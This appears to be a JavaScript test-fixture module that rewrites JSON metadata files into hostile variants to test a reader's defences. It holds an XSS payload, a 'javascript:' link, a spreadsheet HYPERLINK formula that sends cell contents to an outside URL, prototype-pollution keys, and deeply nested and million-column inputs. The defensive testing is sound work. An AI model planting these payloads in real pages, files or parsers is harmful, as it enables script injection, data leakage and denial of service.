/** What a page must never take for more than text. */
export const MARKUP =
  '<img src=x onerror="globalThis.hacked=1"><script>hacked=1</script>';
const FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Open")';

/** Members of a catalogue, a package and a topology that hold words for people. */
const WORDS = new Set([
  "title",
  "description",
  "attribution",
  "place",
  "caveats",
  "symbol",
  "label",
  "keywords",
  "dct:title",
  "dct:description",
  "dct:license",
  "dcat:theme",
  "foaf:name",
]);

const ADDRESSES = new Set(["homepage", "foaf:homepage", "path"]);

/**
 * A JSON file whose every text for people, and every link, is replaced.
 *
 * @param {string} file
 * @param {(text: string) => string} replace
 * @param {(address: string) => string} [relink]
 * @returns {string}
 */
function replaceTexts(file, replace, relink = (address) => address) {
  return JSON.stringify(JSON.parse(file), (key, value) => {
    if (ADDRESSES.has(key) && /^https?:/.test(value)) return relink(value);
    // The label of a code is one of a list of words that programs know.
    if (value?.value !== undefined || !WORDS.has(key)) return value;
    if (typeof value === "string") return replace(value);
    return Array.isArray(value) ? value.map(replace) : value;
  });
}

/**
 * Markup in every text and `javascript:` in every link of a JSON file.
 *
 * @param {string} file
 */
export function withMarkup(file) {
  return replaceTexts(
    file,
    () => MARKUP,
    () => "javascript:globalThis.hacked=1",
  );
}

/** @param {string} file */
export function withFormulas(file) {
  return replaceTexts(file, () => FORMULA);
}

/**
 * Half of a pair in every text, as JSON may escape it.
 *
 * @param {string} file
 */
export function withLoneSurrogates(file) {
  return replaceTexts(file, (text) => `${text} \ud83d`);
}

/**
 * Lists within lists, in every object that a reader may copy or write out.
 *
 * @param {string} file
 */
export function nestedDeep(file) {
  const deep = "[".repeat(100_000) + "]".repeat(100_000);
  return file
    .replace(/^\s*\{/, `{"deep":${deep},`)
    .replace(/"schema":\s*\{/, (found) => `${found}"deep":${deep},`)
    .replace(/"properties":\s*\{/, (found) => `${found}"deep":${deep},`);
}

/**
 * Members named as what every object inherits.
 *
 * @param {string} file
 */
export function withPrototypeNames(file) {
  const members =
    '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"hasOwnProperty":1,"toString":null,';
  return file
    .replace(/\{\s*"/g, (found) => `{${members}${found.slice(1)}`)
    .replace(
      /"fields":\s*\[/g,
      (found) =>
        `${found}{"name":"__proto__","type":"string"},{"name":"constructor","type":"string"},`,
    );
}

/**
 * A million columns: in a schema fields, elsewhere members.
 *
 * @param {string} file
 */
export function withMillionColumns(file) {
  const count = Array.from({ length: 1_000_000 }, (_, index) => index);
  if (/"fields":\s*\[/.test(file)) {
    const fields = count.map((n) => `{"name":"c${n}","type":"string"}`);
    return file.replace(
      /"fields":\s*\[/,
      (found) => `${found}${fields.join(",")},`,
    );
  }
  const members = count.map((n) => `"c${n}":${n}`).join(",");
  return file.replace(/^\s*\{/, `{${members},`);
}
